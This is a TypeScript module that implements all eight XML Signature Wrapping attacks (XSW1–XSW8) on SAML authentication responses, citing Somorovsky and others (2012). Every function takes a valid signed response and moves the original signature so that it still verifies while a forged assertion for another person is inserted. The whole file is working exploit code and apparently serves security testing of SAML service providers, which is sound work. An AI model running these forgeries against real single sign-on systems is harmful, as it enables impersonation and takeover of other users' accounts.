// The eight signature-wrapping attacks, which put a signed assertion into a response about another person (Somorovsky
// and others, 2012). Each takes a valid response with an unencrypted assertion, and returns one whose signatures still
// cover the same content.

const ASSERTION = /<saml2:Assertion .*<\/saml2:Assertion>/s
const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s
const THE_ID = /\bID="(_[0-9a-f]+)"/

type Wrap = (reply: string, forge: (xml: string) => string) => string

const parts = (reply: string) => {
  const assertion = ASSERTION.exec(reply)![0]
  return {
    assertion,
    unsigned: assertion.replace(SIGNATURE, ''),
    itsSignature: SIGNATURE.exec(assertion)![0],
    replySignature: SIGNATURE.exec(reply)![0],
  }
}

/** Returns the element for another person, under another ID and without a signature. */
const evil = (xml: string, forge: (xml: string) => string) =>
  forge(xml.replace(SIGNATURE, '').replace(THE_ID, 'ID="_evil"'))

const inside = (signature: string, xml: string) =>
  signature.replace('</ds:Signature>', `<ds:Object>${xml}</ds:Object></ds:Signature>`)

/** Makes a response for another person whose signature contains the whole original response. */
const aroundReply: Wrap = (reply, forge) => {
  const { replySignature } = parts(reply)
  const original = reply.replace(replySignature, '')
  return evil(reply.replace(replySignature, '@'), forge).replace('@', inside(replySignature, original))
}

const besideReply: Wrap = (reply, forge) => {
  const { replySignature } = parts(reply)
  const original = reply.replace(replySignature, '')
  return evil(reply.replace(replySignature, '@'), forge).replace('@', original + replySignature)
}

export const WRAPPED: Record<string, Wrap> = {
  'XSW1, the signed reply inside the signature of another': aroundReply,
  'XSW2, the signed reply beside its signature in another': besideReply,
  'XSW3, another assertion before the signed one': (reply, forge) => {
    const { assertion } = parts(reply)
    return reply.replace(assertion, evil(assertion, forge) + assertion)
  },
  'XSW4, the signed assertion inside another': (reply, forge) => {
    const { assertion } = parts(reply)
    const other = evil(assertion, forge).replace('</saml2:Assertion>', `${assertion}</saml2:Assertion>`)
    return reply.replace(assertion, other)
  },
  'XSW5, another assertion with the signature, the signed one at the end': (reply, forge) => {
    const { assertion, unsigned, itsSignature } = parts(reply)
    const other = evil(assertion, forge).replace('</saml2:Issuer>', `</saml2:Issuer>${itsSignature}`)
    return reply.replace(assertion, other + unsigned)
  },
  'XSW6, another assertion with the signature, which holds the signed one': (reply, forge) => {
    const { assertion, unsigned, itsSignature } = parts(reply)
    const other = evil(assertion, forge).replace('</saml2:Issuer>', `</saml2:Issuer>${inside(itsSignature, unsigned)}`)
    return reply.replace(assertion, other)
  },
  'XSW7, another assertion among extensions': (reply, forge) => {
    const { assertion } = parts(reply)
    const extensions = `<saml2p:Extensions>${evil(assertion, forge)}</saml2p:Extensions>`
    return reply.replace('<saml2p:Status>', `${extensions}<saml2p:Status>`)
  },
  'XSW8, the signed assertion in an object of another’s signature': (reply, forge) => {
    const { assertion, unsigned, itsSignature } = parts(reply)
    const other = evil(assertion, forge).replace('</saml2:Issuer>', `</saml2:Issuer>${inside(itsSignature, unsigned)}`)
    return reply.replace(assertion, other.replace('<ds:Object>', '<ds:Object Id="_object">'))
  },
}
